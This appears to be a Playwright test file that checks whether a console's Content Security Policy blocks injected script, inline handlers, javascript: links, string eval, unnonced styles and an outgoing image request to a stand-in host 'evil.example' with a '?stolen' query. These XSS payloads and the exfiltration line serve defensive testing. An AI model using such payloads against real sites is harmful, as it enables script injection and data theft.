import { expect, test } from '../e2e/fixtures.ts'

// What a script or markup that got into the page, out of a site's name or note, would try. The policy must refuse each.

test('markup from outside runs no script', async ({ openConsole }) => {
  const { page } = await openConsole()
  const ran = await page.evaluate(async () => {
    const host = document.createElement('div')
    document.body.append(host)
    host.innerHTML = '<img src="x" onerror="window.evil = 1"><svg onload="window.evil = 2"></svg><a href="javascript:window.evil=3">x</a>'
    host.querySelector('a')?.click()
    const script = document.createElement('script')
    script.textContent = 'window.evil = 4'
    const refused = new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve, { once: true }))
    host.append(script)
    await refused
    return 'evil' in window
  })
  expect(ran).toBe(false)
})

test('text is never compiled to a script', async ({ openConsole }) => {
  const { page } = await openConsole()
  // Playwright's own evaluation stands outside the policy; a timer inside the page does not.
  const compiled = await page.evaluate(async () => {
    const refused = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (event) => resolve(event.blockedURI), { once: true }))
    // oxlint-disable-next-line eslint/no-implied-eval -- this is the attack
    setTimeout('window.evil = 1' as unknown as () => void, 0)
    return { refused: await refused, ran: 'evil' in window }
  })
  expect(compiled).toEqual({ refused: 'eval', ran: false })
})

test('the page talks to nobody itself', async ({ openConsole, platform }) => {
  const { page } = await openConsole()
  const answers = await page.evaluate(async (address) => {
    const outcome = (attempt: Promise<unknown>) =>
      attempt.then(
        () => 'sent',
        () => 'refused',
      )
    const picture = new Promise((resolve, reject) => {
      const image = new Image()
      image.addEventListener('load', resolve)
      image.addEventListener('error', reject)
      image.src = 'https://evil.example/?stolen'
    })
    return [await outcome(fetch(address, { mode: 'no-cors' })), await outcome(fetch('/index.html')), await outcome(picture)]
  }, platform.urls.graphql)
  expect(answers).toEqual(['refused', 'refused', 'refused'])
})

test('a style needs the nonce of its document', async ({ openConsole }) => {
  const { page } = await openConsole()
  const color = await page.evaluate(() => {
    const style = document.createElement('style')
    style.textContent = 'body { outline-color: rgb(1, 2, 3) !important }'
    document.head.append(style)
    return getComputedStyle(document.body).outlineColor
  })
  expect(color).not.toBe('rgb(1, 2, 3)')
})

test('the console itself breaks no rule of the policy', async ({ signedInAs }) => {
  const { page } = await signedInAs('ADMIN')
  const refused: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) refused.push(message.text())
  })
  await page.reload()
  await expect(page.getByRole('grid')).toBeVisible()
  expect(refused).toEqual([])
})
